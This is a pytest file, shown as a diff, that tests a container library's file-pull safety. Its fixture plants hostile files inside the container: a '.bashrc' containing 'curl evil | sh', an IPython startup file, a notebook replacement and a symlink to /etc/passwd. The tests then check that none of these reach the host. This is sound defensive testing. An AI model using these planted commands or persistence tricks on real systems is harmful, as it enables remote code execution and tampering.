@@ -1,0 +1,175 @@
+"""Pulls with code in the container as the only attacker, against the real local server: `Sandbox.pull`,
+`Sandbox.run(pull=...)`, pool pulls, and the magics in a real kernel. The container plants an IPython startup
+file, a `.bashrc`, a file named like the user's notebook, a symlink and a file behind a folder that is a link out
+of the target on the host; none of it is written unless asked, the notebook stays byte-identical, nothing lands
+outside the target even when asked, and each pull says what it skipped. (Names with `..`, backslashes or absolute
+paths can't be made in a container's filesystem; a hostile service's listing of them is in test_pull_safety.py.)"""
+
+from __future__ import annotations
+
+import os
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+from kernelhelp import Kernel, text
+
+import cellbox
+from cellbox.local.testing import RunningServer
+
+PLANT = """\
+import os
+os.makedirs('.ipython/profile_default/startup', exist_ok=True)
+open('.ipython/profile_default/startup/00-x.py', 'w').write('open("/tmp/cellbox-pwned", "w")')
+open('.bashrc', 'w').write('curl evil | sh')
+open('notebook.ipynb', 'w').write('{"replaced": true}')
+os.makedirs('out', exist_ok=True)
+open('out/x.txt', 'w').write('through the link')
+if not os.path.lexists('passwd-link'):
+    os.symlink('/etc/passwd', 'passwd-link')
+open('ok.txt', 'w').write('plain result')
+"""
+NOTEBOOK = b'{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}\n'
+SKIPPED = (
+    "skipped 2 hidden files (.bashrc, .ipython/…; --hidden / hidden=True brings them), "
+    "1 existing file (notebook.ipynb; --force / force=True replaces it) "
+    "and 1 file with an unsafe path (out/x.txt: out is a link leading out of the folder)"
+)
+UNSAFE_ONLY = "skipped 1 file with an unsafe path (out/x.txt: out is a link leading out of the folder)"
+
+
+def places(root: Path) -> tuple[Path, Path]:
+    """A notebook's folder holding the user's notebook and a link `out` to a folder elsewhere on the host (where
+    the pull must not write), and that folder."""
+    target, outside = root / "notebook-folder", root / "elsewhere"
+    target.mkdir(parents=True)
+    outside.mkdir()
+    (target / "notebook.ipynb").write_bytes(NOTEBOOK)
+    (target / "out").symlink_to(outside)
+    return target, outside
+
+
+def written(folder: Path) -> list[str]:
+    return sorted(p.relative_to(folder).as_posix() for p in folder.rglob("*") if p.is_file() and not p.is_symlink())
+
+
+def nothing_planted(target: Path, outside: Path) -> None:
+    assert written(target) == ["notebook.ipynb", "ok.txt"]
+    assert (target / "notebook.ipynb").read_bytes() == NOTEBOOK
+    assert not (target / "passwd-link").exists() and not (target / "passwd-link").is_symlink()
+    assert os.listdir(outside) == []
+
+
+def asked_for(target: Path, outside: Path) -> None:
+    """With hidden and force: the hidden files and the notebook's replacement, still nothing outside."""
+    assert written(target) == [".bashrc", ".ipython/profile_default/startup/00-x.py", "notebook.ipynb", "ok.txt"]
+    assert (target / "notebook.ipynb").read_text() == '{"replaced": true}'
+    assert os.listdir(outside) == []
+
+
+@pytest.fixture
+def sandbox(use_local_server: RunningServer) -> Iterator[cellbox.Sandbox]:
+    sb = cellbox.Sandbox.create(name="pull-attacks")
+    yield sb
+    sb.delete()
+
+
+def test_sandbox_pull_writes_none_of_what_the_container_planted(sandbox: cellbox.Sandbox, tmp_path: Path) -> None:
+    target, outside = places(tmp_path)
+    run = sandbox.run(PLANT)
+    assert run.ok, run.error
+    pulled = sandbox.pull("*", to=target)
+    assert pulled == [target / "ok.txt"] and (target / "ok.txt").read_text() == "plain result"
+    assert pulled.note == SKIPPED
+    nothing_planted(target, outside)
+
+    again = sandbox.run(PLANT, pull=["*"], to=target)
+    assert again.ok and again.notes[-1] == SKIPPED.replace(
+        "1 existing file (notebook.ipynb; --force / force=True replaces it)",
+        "2 existing files (notebook.ipynb, ok.txt; --force / force=True replaces them)",
+    )
+    nothing_planted(target, outside)
+
+    forced = sandbox.pull("*", to=target, hidden=True, force=True)
+    assert len(forced) == 4 and forced.note == UNSAFE_ONLY
+    asked_for(target, outside)
+
+
+def test_pool_pulls_write_none_of_it_into_each_parts_folder(use_local_server: RunningServer, tmp_path: Path) -> None:
+    target, outside = places(tmp_path)
+    part = target / "part-0"
+    part.mkdir()
+    (part / "notebook.ipynb").write_bytes(NOTEBOOK)
+    (part / "out").symlink_to(outside)
+    with cellbox.Pool(1, show=False) as pool:
+        runs = pool.map(PLANT, pull=["*"], to=target)
+        assert runs.ok
+        (only,) = runs
+        assert only.pulled == [part / "ok.txt"] and only.notes == [SKIPPED]
+        assert written(part) == ["notebook.ipynb", "ok.txt"] and (part / "notebook.ipynb").read_bytes() == NOTEBOOK
+        runs = pool.map(PLANT, pull=["*"], to=target, hidden=True, force=True)
+        assert runs[0].notes == [UNSAFE_ONLY]
+    asked_for(part, outside)
+
+
+@pytest.fixture(scope="module")
+def kernel(local_server: RunningServer, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Kernel]:
+    home = tmp_path_factory.mktemp("kernel-home")
+    env = {k: v for k, v in os.environ.items() if not k.startswith(("CELLBOX_", "OCI_"))}
+    env.update(
+        CELLBOX_BASE_URL=local_server.base_url,
+        CELLBOX_API_KEY=local_server.token,
+        CELLBOX_MODEL="cellbox-local",
+        CELLBOX_STATE_DIR=str(home / "state"),
+        XDG_CONFIG_HOME=str(home / "config"),
+    )
+    k = Kernel(env)
+    status, out = k.run("%load_ext cellbox\n%container new pull-attacks-magics")
+    assert status == "ok", out
+    yield k
+    k.run("%container delete")
+    k.stop()
+
+
+def test_container_pull_of_everything_into_the_notebooks_folder(kernel: Kernel, tmp_path: Path) -> None:
+    target, outside = places(tmp_path)
+    status, out = kernel.run(f"%%container\n{PLANT}")
+    assert status == "ok", out
+    status, out = kernel.run(f"%container pull * --to {target}")
+    assert status == "ok", out
+    assert text(out, "stdout") == f"cellbox: pulled 1 file(s) into {target}; {SKIPPED}\n"
+    nothing_planted(target, outside)
+    status, out = kernel.run(f"%container pull * --to {target} --hidden --force")
+    assert status == "ok", out
+    assert text(out, "stdout") == f"cellbox: pulled 4 file(s) into {target}; {UNSAFE_ONLY}\n"
+    asked_for(target, outside)
+
+
+def test_a_cells_pull_says_what_it_skipped(kernel: Kernel, tmp_path: Path) -> None:
+    target, outside = places(tmp_path)
+    status, out = kernel.run(f"%%container --pull * --to {target}\n{PLANT}")
+    assert status == "ok", out
+    assert f"cellbox: {SKIPPED}\n" in text(out, "stderr")
+    nothing_planted(target, outside)
+    status, out = kernel.run(f"%%container --pull * --to {target} --hidden --force\n{PLANT}")
+    assert status == "ok", out
+    assert f"cellbox: {UNSAFE_ONLY}\n" in text(out, "stderr")
+    asked_for(target, outside)
+
+
+def test_a_pool_cells_pull_says_what_it_skipped(kernel: Kernel, tmp_path: Path) -> None:
+    target, outside = places(tmp_path)
+    (target / "part-0").mkdir()
+    (target / "part-0" / "notebook.ipynb").write_bytes(NOTEBOOK)
+    (target / "part-0" / "out").symlink_to(outside)
+    status, out = kernel.run("%container pool 1 --name pull-attacks-pool")
+    assert status == "ok", out
+    try:
+        status, out = kernel.run(f"%%container --pool --pull * --to {target}\n{PLANT}")
+        assert status == "ok", out
+        said = text(out, "stdout")
+        assert f"cellbox: pulled 1 file(s) into {target}/part-N, one folder per part; {SKIPPED}\n" in said
+        assert written(target / "part-0") == ["notebook.ipynb", "ok.txt"]
+        assert (target / "part-0" / "notebook.ipynb").read_bytes() == NOTEBOOK and os.listdir(outside) == []
+    finally:
+        kernel.run("%container pool --delete")
